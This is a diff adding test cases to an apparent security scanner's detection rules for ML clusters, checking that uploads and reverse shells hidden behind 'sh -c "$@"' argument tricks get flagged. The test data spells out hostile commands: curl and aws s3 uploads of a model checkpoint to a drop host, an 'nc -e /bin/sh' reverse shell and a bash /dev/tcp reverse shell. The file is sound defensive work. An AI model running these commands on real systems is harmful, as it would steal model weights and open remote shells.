@@ -48,6 +48,23 @@ describe('curl with a file as the body (MLS-EXFIL-014)', () => {
   });
 });
 
+describe('a command a shell runs from the arguments it is given after its script', () => {
+  it('alerts on uploads and reverse shells spelled only in the shell\'s arguments ("$@", $0, $1)', () => {
+    expect(execRuleIds(['sh', '-c', '"$@"', 'sh', 'curl', '-T', '/mnt/ckpt/model.pt', U])).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(['sh', '-c', 'exec "$@"', 'sh', 'aws', 's3', 'cp', '/mnt/ckpt/model.pt', 's3://drop-203-0-113-5/m.pt'])).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(['bash', '-c', '$0 "$@"', 'nc', '-e', '/bin/sh', '203.0.113.5', '4444'])).toContain('MLS-RAY-015');
+    expect(execRuleIds(['sh', '-c', 'exec "$@"', 'sh', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'])).toContain('MLS-RAY-015');
+    expect(execRuleIds(sh(`sudo sh -c '"$@"' _ curl -T /mnt/ckpt/model.pt ${U}`))).toContain('MLS-EXFIL-014');
+  });
+
+  it('leaves an argument that is only data, a trainer run so, and arguments the script shifts away', () => {
+    const mls = (argv: string[]): string[] => execRuleIds(argv).filter((id) => id.startsWith('MLS-'));
+    expect(mls(['sh', '-c', 'echo "$1"', 'sh', `curl -T /mnt/ckpt/model.pt ${U}`])).toEqual([]);
+    expect(mls(['sh', '-c', 'exec "$@"', '--', 'python', 'train.py', '--ckpt', '/mnt/ckpt'])).toEqual([]);
+    expect(mls(['sh', '-c', 'shift 4; "$@"', 'sh', 'curl', '-T', '/mnt/ckpt/model.pt', U, 'true'])).toEqual([]);
+  });
+});
+
 describe('a pod made to serve its files (MLS-EXFIL-016)', () => {
   /** File servers started on a checkpoint directory: MLS-EXFIL-016's, and MLS-EXFIL-037's for the checkpoints. */
   const SERVED_CHECKPOINTS: string[][] = [
